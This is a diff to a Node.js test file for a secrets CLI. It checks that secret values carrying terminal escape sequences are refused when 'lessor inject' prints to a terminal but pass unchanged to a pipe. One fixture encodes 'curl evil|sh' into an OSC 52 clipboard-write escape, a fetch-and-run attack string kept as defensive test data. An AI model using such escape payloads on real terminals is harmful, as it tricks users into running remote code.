@@ -17,6 +17,8 @@ import type { AddressInfo, Socket } from "node:net";
 import { after, describe, test } from "node:test";
 import assert from "node:assert/strict";
 import * as tls from "node:tls";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
 import { inProcessApi } from "../src/backend/in-process.js";
 import { LocalCa } from "../src/proxy/ca.js";
 import { ForwardProxy } from "../src/proxy/forward.js";
@@ -267,7 +269,7 @@ describe("secret get --reveal and lessor lease on a terminal (src/cli/format/ter
   const PTY: PtyOptions = { killAfterMs: 30_000, waitForMs: 20_000 };
   const lessorCmd = (args: string): string => `${JSON.stringify(process.execPath)} ${JSON.stringify(BIN)} ${args}`;
 
-  test("a value holding terminal escapes (OSC 52, ESC [2J, C1 CSI, bidi, a bare 0x9b byte) is not written to the terminal by secret get --reveal or lessor lease; a pipe and --json still get the exact bytes", { timeout: 120_000 }, async () => {
+  test("a value holding terminal escapes (OSC 52, ESC [2J, C1 CSI, bidi, a bare 0x9b byte) is not written to the terminal by secret get --reveal, lessor lease or lessor inject; a pipe and --json still get the exact bytes", { timeout: 120_000 }, async () => {
     const home = await cliHome();
     const values: Record<string, Buffer> = {
       osc52: Buffer.from(`${CANARY}\x1b]52;c;${Buffer.from("curl evil|sh").toString("base64")}\x07`),
@@ -302,6 +304,18 @@ describe("secret get --reveal and lessor lease on a terminal (src/cli/format/ter
     assert.ok(!l.out.includes("\x1b]52") && !l.out.includes(CANARY), `lease: nothing of the value reached the terminal: ${JSON.stringify(l.out)}`);
     assert.match(l.out, /would act on this terminal/);
     assert.equal(await liveLeases(home, "bot"), 0, "the lease whose value was not printed is revoked");
+
+    // lessor inject rendering to the terminal: refused, nothing written, its leases revoked; to a pipe the bytes.
+    const tmpl = join(home, "..", "osc52.tmpl");
+    writeFileSync(tmpl, "key: $S:osc52\n");
+    const i = pty(lessorCmd(`inject -i ${JSON.stringify(tmpl)} --agent bot --domain api.example.com`), env, PTY);
+    assert.equal(await i.exit(), 2, i.out);
+    assert.ok(!i.out.includes("\x1b]52") && !i.out.includes(CANARY), `inject: nothing of the value reached the terminal: ${JSON.stringify(i.out)}`);
+    assert.match(i.out, /would act on this terminal/);
+    assert.equal(await liveLeases(home, "bot"), 0, "inject's leases are revoked");
+    const ip = await runCli(["inject", "-i", tmpl, "--agent", "bot", "--domain", "api.example.com"], { home });
+    assert.equal(ip.code, 0, ip.stderr);
+    assert.ok(ip.stdout.startsWith(`key: ${CANARY}\x1b]52`), "a pipe gets the rendered bytes");
 
     // A plain value, and a PEM-like one with line breaks and tabs, still show on a terminal.
     await runCli(["secret", "set", "pem", "--keep-newline"], { home, input: `-----BEGIN KEY-----\n\t${CANARY}\n-----END KEY-----` });
